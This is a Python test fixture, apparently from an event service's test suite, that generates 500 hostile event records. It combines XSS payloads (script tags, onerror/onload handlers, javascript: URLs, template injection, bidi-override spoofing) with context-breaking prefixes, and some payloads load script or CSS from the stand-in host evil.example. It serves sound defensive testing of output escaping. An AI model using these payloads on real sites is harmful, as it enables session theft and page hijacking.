"""Five hundred strings that attack a program that shows them. Each is a valid text of an event."""

from __future__ import annotations

from itertools import product

from service.domain.folding import plain_tag
from service.schemas.fields import UNSEEN

RUN = "window.ran=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js>{RUN}</SCRIPT>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<style onload={RUN}>*{{}}</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<object data=javascript:{RUN}>",
    "<base href=//evil.example/>",
    f"<link rel=stylesheet href=//evil.example/x.css onerror={RUN}>",
    f"javascript:{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    "\u202egnp.exe\u202c \u2066mixed\u2069 שלום مرحبا",
)
BEFORE = ("", '"', "'", "'\"><!--", "--><", "]]>", "</title>", "</textarea>", "</script>", "`")
AFTER = ("", '" x="')
STRINGS = tuple(
    f"{before}{payload}{after}" for payload, before, after in product(PAYLOADS, BEFORE, AFTER)
)


def tag_of(text: str) -> str:
    """The tag that stands for a text: a comma would be a list, and a tag has only what can be
    seen, with one space between words."""
    return plain_tag(UNSEEN.sub("", text.replace(",", ";")))


def event(number: int, text: str) -> dict[str, object]:
    """An event that has ``text`` in every field that takes text."""
    return {
        "id": f"hostile-{number:03}",
        "title": text,
        "summary": text,
        "date": f"2020-{1 + number % 12:02}",
        "date_as_reported": text,
        "category": "other",
        "actors": [{"name": text, "type": "person", "title": text}],
        "place": {"name": text, "latitude": 1.0, "longitude": 2.0},
        "amounts": [{"value": "1", "currency": "USD", "stage": "pledged", "purpose": text}],
        "sources": [
            {"title": text, "publisher": text, "url": "https://source.example/?q='%22%3E%3Cscript"}
        ],
        "tags": [tag_of(text)],
    }
